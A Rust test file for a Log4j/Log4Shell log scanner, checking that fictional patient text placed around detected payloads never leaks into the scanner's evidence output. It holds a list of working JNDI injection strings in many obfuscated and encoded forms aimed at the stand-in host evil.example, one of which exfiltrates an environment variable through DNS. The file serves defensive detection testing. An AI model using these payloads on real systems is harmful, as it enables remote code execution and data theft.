//! No patient data, ever: whatever surrounds a payload on its line — before it, after it,
//! after an unclosed lookup, inside an unclosed lookup in the host, after an unclosed
//! bracket of Log4j's own error message — never reaches the evidence. Every disguise, every
//! position, one file per case so each window is decoded on its own.

use crate::support::{scan_one, write};

const PATIENT: &str = "Patient: Erika Mustermann, Diagnose F32.1, Versichertennummer A123456789";
const SECRETS: &[&str] = &[
    "Erika",
    "Mustermann",
    "Diagnose",
    "F32.1",
    "Versichertennummer",
    "A123456789",
];

/// The disguises, each closed and unclosed (`{p}` is where the payload's address goes).
fn disguises() -> Vec<String> {
    let closed = [
        "${jndi:ldap://evil.example/a}",
        "${jNdI:LdAp://evil.example:1389/a}",
        "${${lower:j}${upper:n}di:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://evil.example/a}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}",
        "%24%7Bjndi:ldap://evil.example/a%7D",
        "%2524%257Bjndi:ldap://evil.example/a%257D",
        "\\u0024{jndi:ldap://evil.example/a}",
        "\\044{jndi:ldap://evil.example/a}",
        "&#x24;&#x7b;jndi:ldap://evil.example/a&#x7d;",
        "${jndi:rmi}://evil.example/a}",
        "${jndi:ldap://${env:USER}.evil.example/a}",
        "${${env:X:-j}${lower:N}${lower:${upper:d}}}i:ldap://evil.example/a}",
    ];
    let mut all = Vec::new();
    for d in closed {
        all.push(d.to_owned());
        // Unclosed: drop the last closing brace (plain or encoded).
        let open = if let Some(s) = d.strip_suffix("%257D") {
            s.to_owned()
        } else if let Some(s) = d.strip_suffix("%7D") {
            s.to_owned()
        } else if let Some(s) = d.strip_suffix("&#x7d;") {
            s.to_owned()
        } else {
            d.strip_suffix('}').unwrap().to_owned()
        };
        all.push(open);
    }
    // An unclosed lookup inside the host.
    all.push("${jndi:ldap://${env:USER".to_owned());
    all.push("${jndi:ldap://evil.example/${env:USER".to_owned());
    all
}

/// Lines with the patient text in every position around `d`.
fn placements(d: &str) -> Vec<String> {
    vec![
        format!("{PATIENT} {d}"),
        format!("{PATIENT}{d}"),
        format!("{d} {PATIENT}"),
        format!("{d}\t{PATIENT}"),
        format!("{d}, {PATIENT}"),
        format!("{d}\"{PATIENT}\""),
        format!("{d}<br>{PATIENT}"),
        format!("{PATIENT} {d} {PATIENT}"),
        format!("2021-12-11 10:00:00,000 INFO [{PATIENT}] q={d} {PATIENT}"),
        format!("{{\"msg\":\"{d}\",\"patient\":\"{PATIENT}\"}}"),
        format!(
            "10.1.2.3 - - [10/Dec/2021:22:00:00 +0100] \"GET /?q={d} {PATIENT} HTTP/1.1\" 200 1"
        ),
    ]
}

fn assert_clean(what: &str, json: &str) {
    for s in SECRETS {
        assert!(!json.contains(s), "{what}: {s} leaked: {json}");
    }
}

#[test]
fn patient_text_around_every_disguise_never_reaches_the_evidence() {
    let dir = tempfile::tempdir().unwrap();
    let mut n = 0;
    let mut found = 0;
    for d in disguises() {
        for line in placements(&d) {
            n += 1;
            let p = write(
                dir.path(),
                &format!("case{n}.log"),
                format!("{line}\n").as_bytes(),
            );
            let s = scan_one(&p);
            found += usize::from(!s.evidence.is_empty());
            let json = serde_json::to_string(&(&s.evidence, &s.sources, &s.unreadable)).unwrap();
            assert_clean(&line, &json);
        }
    }
    // The cases are real findings (the test would not pass vacuously).
    assert!(found * 10 >= n * 9, "{found} of {n} cases found");
}

#[test]
fn an_unclosed_lookup_shows_only_its_address() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "a.log",
        format!("x ${{jndi:ldap://evil.example:1389/a {PATIENT}\n").as_bytes(),
    );
    let s = scan_one(&p);
    assert_eq!(s.evidence.len(), 1);
    assert_eq!(
        s.evidence[0].payload.as_deref(),
        Some("${jndi:ldap://evil.example:1389/a")
    );
}

#[test]
fn an_unclosed_bracket_of_the_lookup_error_keeps_only_the_url() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "trace.log",
        format!(
            "2021-12-11 ERROR Error looking up JNDI resource [ldap://evil.example:1389/a {PATIENT}\n\
             \tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)\n"
        )
        .as_bytes(),
    );
    let s = scan_one(&p);
    let json = serde_json::to_string(&s.evidence).unwrap();
    assert_clean("lookup error", &json);
    assert!(json.contains("evil.example"), "{json}");
}
